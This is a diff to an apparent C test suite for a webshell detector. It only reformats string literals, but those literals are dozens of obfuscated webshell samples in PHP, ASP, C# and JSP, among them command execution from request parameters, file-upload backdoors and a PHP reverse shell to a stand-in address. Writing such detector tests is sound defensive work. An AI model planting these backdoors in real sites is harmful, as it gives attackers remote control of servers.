@@ -78,8 +78,8 @@ TEST(php_shells)
         "$a = strrev('tressa'); @$a($_POST['p']);",
         "$a = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $a($_POST['p']);",
         "$a = base64_decode('YXNzZXJ0'); $a($_POST['p']);",
-        "$s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[0].$s[18].$s[18].$s[4].$s[17].$s[19]; "
-        "$f($_REQUEST['q']);",
+        ("$s = 'abcdefghijklmnopqrstuvwxyz_'; $f = $s[0].$s[18].$s[18].$s[4].$s[17].$s[19]; "
+         "$f($_REQUEST['q']);"),
         "$a = str_replace('x','','axsxxsxert'); $a($_POST['p']);",
         "$_ = \"_\".(\"%0F\"^\"H\"); ${'_GE'.'T'}['a'](${'_GE'.'T'}['b']);",
         "\"\\x65\\x76\"; $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $f($_POST[1]);",
@@ -121,16 +121,16 @@ TEST(php_shells_that_include_write_or_hide)
         "foreach ($_POST as $k => $v) $$k = $v; eval($c);",
         "parse_str($_SERVER['QUERY_STRING']); system($cmd);",
         "function run($c) { return shell_exec($c); } echo run($_POST['c']);",
-        "class A { public $c; function __destruct() { eval($this->c); } } $a = new A; "
-        "$a->c = $_POST['c'];",
+        ("class A { public $c; function __destruct() { eval($this->c); } } $a = new A; "
+         "$a->c = $_POST['c'];"),
         "$p = proc_open($_GET['c'], array(), $pipes);",
         "$w = new COM('WScript.shell'); $e = $w->exec($_GET['c']);",
         "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
         "if (copy($_FILES['f']['tmp_name'], $_POST['d'].$_FILES['f']['name'])) echo 'ok';",
         "passthru($cmd);",
         "eval(str_rot13($_POST['c']));",
-        "$key='k'; $d=file_get_contents('php://input'); for($i=0;$i<strlen($d);$i++) "
-        "{ $d[$i]=$d[$i]^$key[$i+1&15]; } eval($d);",
+        ("$key='k'; $d=file_get_contents('php://input'); for($i=0;$i<strlen($d);$i++) "
+         "{ $d[$i]=$d[$i]^$key[$i+1&15]; } eval($d);"),
         "session_start(); $p = openssl_decrypt(file_get_contents('php://input'), 'AES128', "
         "$_SESSION['k']); $a = explode('|', $p); class C{public function __invoke($p) "
         "{eval($p.'');}} @call_user_func(new C(), $a[1]);",
@@ -141,11 +141,11 @@ TEST(php_shells_that_include_write_or_hide)
         "ini_set('x', 1); define('F', 'ass'.'ert'); $f = F; $f($_POST['c']);",
         "$l = array('sys','tem'); $f = $l[0].$l[1]; $f($_GET['c']);",
         "$f = implode('', array('ex','ec')); $f($_GET['c']);",
-        "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`'); "
-        "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']'); $___=$$__; $_($___[_]);",
+        ("$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`'); "
+         "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']'); $___=$$__; $_($___[_]);"),
         "$s = fsockopen('192.0.2.1', 4444); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }",
-        "error_reporting(0); $c = $_COOKIE; $k = 'x'; (count($c)==9) ? (($q = $c[12].$c[21]) && "
-        "($q = $q($c[26])) && $q($c[30])) : $c;",
+        ("error_reporting(0); $c = $_COOKIE; $k = 'x'; (count($c)==9) ? (($q = $c[12].$c[21]) && "
+         "($q = $q($c[26])) && $q($c[30])) : $c;"),
         "$e = explode(' ', '97 115 115'); foreach ($e as $x) $o .= chr($x); $o($_POST['a']);",
     };
 
@@ -187,30 +187,31 @@ TEST(asp_shells)
         "eval(Request.Item[\"c\"])",
         "a = request(\"c\") : execute a",
         "If Request(\"c\")<>\"\" Then Execute(Request(\"c\"))",
-        "Dim c\nc = Request.QueryString(\"c\")\nSet o = Server.CreateObject(\"WScript.Shell\")\n"
-        "o.Run c, 0, True",
+        ("Dim c\nc = Request.QueryString(\"c\")\nSet o = Server.CreateObject(\"WScript.Shell\")\n"
+         "o.Run c, 0, True"),
         "Set s = CreateObject(\"wscript.shell\")\nSet e = s.exec(\"cmd.exe /c \" & "
         "request(\"x\"))\n"
         "response.write e.stdout.readall",
-        "response.write CreateObject(\"wscript.shell\").exec(\"cmd /c \"&request(\"cmd\")).stdout."
-        "readall",
+        ("response.write CreateObject(\"wscript.shell\").exec(\"cmd /c \"&request(\"cmd\")).stdout."
+         "readall"),
         "Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
         "Set t = f.CreateTextFile(Request(\"path\"), True)\nt.Write Request(\"text\")",
-        "set f=server.createobject(\"scri\"&\"pting.filesystemobject\")\n"
-        "f.createtextfile(server.mappath(request(\"n\"))).write(request(\"d\"))",
+        ("set f=server.createobject(\"scri\"&\"pting.filesystemobject\")\n"
+         "f.createtextfile(server.mappath(request(\"n\"))).write(request(\"d\"))"),
         "execute(chr(101)&chr(118)&request(\"a\"))",
-        "Function d(s)\nFor i = 1 To Len(s)\nd = d & Chr(Asc(Mid(s,i,1)) Xor 1)\nNext\n"
-        "End Function\nExecute d(\"Fydbtuf!sdptftu)#b#(\")",
+        ("Function d(s)\nFor i = 1 To Len(s)\nd = d & Chr(Asc(Mid(s,i,1)) Xor 1)\nNext\n"
+         "End Function\nExecute d(\"Fydbtuf!sdptftu)#b#(\")"),
         "Set x = server.createobject(\"msscriptcontrol.scriptcontrol\")\nx.language=\"vbscript\"\n"
         "x.addcode request(\"c\")",
         "x = Session(\"c\") : session(\"c\") = request(\"c\") : if x<>\"\" then execute x",
-        "With CreateObject(\"ADODB.Stream\")\n.Open\n.Write "
-        "Request.BinaryRead(Request.TotalBytes)\n"
-        ".SaveToFile Server.MapPath(Request.QueryString(\"f\")), 2\nEnd With",
+        ("With CreateObject(\"ADODB.Stream\")\n.Open\n.Write "
+         "Request.BinaryRead(Request.TotalBytes)\n"
+         ".SaveToFile Server.MapPath(Request.QueryString(\"f\")), 2\nEnd With"),
         "execute(unescape(\"%65%76\"&request(\"a\")))",
-        "Set sh = Server.CreateObject(\"Shell.Application\")\nsh.ShellExecute \"cmd.exe\", \"/c \" "
-        "& "
-        "Request.Form(\"cmd\")",
+        ("Set sh = Server.CreateObject(\"Shell.Application\")\nsh.ShellExecute \"cmd.exe\", \"/c "
+         "\" "
+         "& "
+         "Request.Form(\"cmd\")"),
         "dim a(5)\na(0)=request(\"x\")\neval(a(0))",
         "Sub go(c)\nExecuteGlobal c\nEnd Sub\ngo Request(\"v\")",
     };
@@ -220,8 +221,8 @@ TEST(asp_shells)
         "var c = Request.Form(\"c\").Item; eval(c);",
         "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(Request(\"c\"));",
         "var p = String.fromCharCode(101); eval(p + Request[\"x\"]);",
-        "eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String("
-        "Request.Item[\"z\"])), \"unsafe\");",
+        ("eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String("
+         "Request.Item[\"z\"])), \"unsafe\");"),
     };
 
     check_shells(SCRIPT_VBSCRIPT, bodies, 3);
@@ -233,11 +234,11 @@ TEST(honest_asp)
 {
     static const char *const bodies[] = {
         "Response.Write Server.HTMLEncode(Request(\"name\"))",
-        "Set c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"dsn\"\n"
-        "Set r = c.Execute(\"select * from t where id=\" & CInt(Request(\"id\")))",
+        ("Set c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"dsn\"\n"
+         "Set r = c.Execute(\"select * from t where id=\" & CInt(Request(\"id\")))"),
         "Server.Execute(\"menu.asp\")",
-        "Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
-        "Set t = f.OpenTextFile(Server.MapPath(\"count.txt\"))\nn = t.ReadLine",
+        ("Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
+         "Set t = f.OpenTextFile(Server.MapPath(\"count.txt\"))\nn = t.ReadLine"),
         "If Request(\"a\") = \"1\" Then Response.Redirect \"b.asp\"",
         "conn.execute \"update t set n='\" & request(\"n\") & \"'\"",
     };
@@ -249,25 +250,26 @@ TEST(net_shells)
 {
     static const char *const bodies[] = {
         "System.Diagnostics.Process.Start(Request[\"c\"]);",
-        "Process p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; "
-        "p.StartInfo.Arguments = \"/c \" + Request[\"c\"]; p.Start();",
+        ("Process p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; "
+         "p.StartInfo.Arguments = \"/c \" + Request[\"c\"]; p.Start();"),
         "ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = \"cmd.exe\"; "
         "psi.Arguments = \"/c \" + arg.Text; Process.Start(psi);",
         "Assembly.Load(Convert.FromBase64String(Request[\"d\"])).CreateInstance(\"X\");",
-        "System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))"
-        ".CreateInstance(\"K\").Equals(this);",
+        ("System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))"
+         ".CreateInstance(\"K\").Equals(this);"),
         "byte[] c = Request.BinaryRead(10); Assembly.Load(new System.Security.Cryptography."
         "RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length))"
         ".CreateInstance(\"U\").Equals(this);",
         "File.WriteAllText(Request[\"f\"], Request[\"d\"]);",
-        "System.IO.File.WriteAllBytes(Server.MapPath(Request.Form[\"f\"]), "
-        "Convert.FromBase64String(Request.Form[\"d\"]));",
+        ("System.IO.File.WriteAllBytes(Server.MapPath(Request.Form[\"f\"]), "
+         "Convert.FromBase64String(Request.Form[\"d\"]));"),
         "Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName));",
         "StreamWriter w = File.CreateText(Request[\"f\"]); w.Write(Request[\"d\"]); w.Close();",
-        "} string Run(string arg) { ProcessStartInfo i = new ProcessStartInfo(\"cmd.exe\", \"/c \" "
-        "+ "
-        "arg); return Process.Start(i).StandardOutput.ReadToEnd(); } void P() { "
-        "Response.Write(Run(Request.QueryString[\"c\"]));",
+        ("} string Run(string arg) { ProcessStartInfo i = new ProcessStartInfo(\"cmd.exe\", \"/c "
+         "\" "
+         "+ "
+         "arg); return Process.Start(i).StandardOutput.ReadToEnd(); } void P() { "
+         "Response.Write(Run(Request.QueryString[\"c\"]));"),
     };
 
     check_shells(SCRIPT_CSHARP, bodies, ARRAY_COUNT(bodies));
@@ -278,37 +280,38 @@ TEST(jsp_shells)
     static const char *const bodies[] = {
         "Runtime.getRuntime().exec(request.getParameter(\"c\"));",
         "String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec(c);",
-        "String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec("
-        "new String[]{\"/bin/sh\", \"-c\", c});",
+        ("String c = request.getParameter(\"c\"); Process p = Runtime.getRuntime().exec("
+         "new String[]{\"/bin/sh\", \"-c\", c});"),
         "String[] a = {\"cmd.exe\", \"/c\", request.getParameter(\"c\")}; "
         "Runtime.getRuntime().exec(a);",
         "new ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();",
         "ProcessBuilder b = new ProcessBuilder(); b.command(request.getHeader(\"c\")); b.start();",
-        "new java.io.FileOutputStream(request.getParameter(\"f\")).write("
-        "request.getParameter(\"t\").getBytes());",
+        ("new java.io.FileOutputStream(request.getParameter(\"f\")).write("
+         "request.getParameter(\"t\").getBytes());"),
         "java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath(\"/\") "
         "+ "
         "request.getParameter(\"f\")); o.write(request.getParameter(\"t\").getBytes());",
-        "} class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { "
-        "return super.defineClass(b, 0, b.length); } } {",
+        ("} class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) "
+         "{ "
+         "return super.defineClass(b, 0, b.length); } } {"),
         "Class c = Class.forName(\"java.lang.Run\" + \"time\"); c.getMethod(\"exec\", String.class)"
         ".invoke(c.getMethod(\"getRuntime\").invoke(null), request.getParameter(\"c\"));",
-        "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval("
-        "request.getParameter(\"c\"));",
+        ("new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval("
+         "request.getParameter(\"c\"));"),
         "java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", "
         "byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = "
         "Base64.getDecoder().decode(request.getParameter(\"d\")); ((Class) m.invoke(l, b, 0, "
         "b.length)).newInstance();",
-        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("
-        "\"u\"))}).loadClass(\"X\").newInstance();",
+        ("new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("
+         "\"u\"))}).loadClass(\"X\").newInstance();"),
         "String k = \"x\"; javax.crypto.Cipher c = javax.crypto.Cipher.getInstance(\"AES\"); "
         "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder()"
         ".decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);} "
         "class U extends ClassLoader { public Class g(byte[] b) { return super.defineClass(b, 0, "
         "b.length); } } {",
-        "} static String run(String c) throws Exception { Process p = "
-        "Runtime.getRuntime().exec(c); "
-        "return \"\"; } { out.print(run(request.getParameter(\"c\")));",
+        ("} static String run(String c) throws Exception { Process p = "
+         "Runtime.getRuntime().exec(c); "
+         "return \"\"; } { out.print(run(request.getParameter(\"c\")));"),
         "\\u0052untime.getRuntime().\\u0065xec(request.getParameter(\"c\"));",
     };
 
@@ -320,8 +323,8 @@ TEST(honest_jsp_and_net)
     static const char *const pages[] = {
         "String n = request.getParameter(\"name\"); out.println(filter(n));",
         "session.setAttribute(\"a\", request.getParameter(\"a\"));",
-        "Connection c = DriverManager.getConnection(u); PreparedStatement s = "
-        "c.prepareStatement(\"x\"); s.setString(1, request.getParameter(\"a\"));",
+        ("Connection c = DriverManager.getConnection(u); PreparedStatement s = "
+         "c.prepareStatement(\"x\"); s.setString(1, request.getParameter(\"a\"));"),
         "response.getWriter().write(request.getParameter(\"x\"));",
         "Class.forName(\"com.mysql.jdbc.Driver\").newInstance();",
         "java.io.FileOutputStream o = new java.io.FileOutputStream(\"/tmp/log\"); o.write(b);",
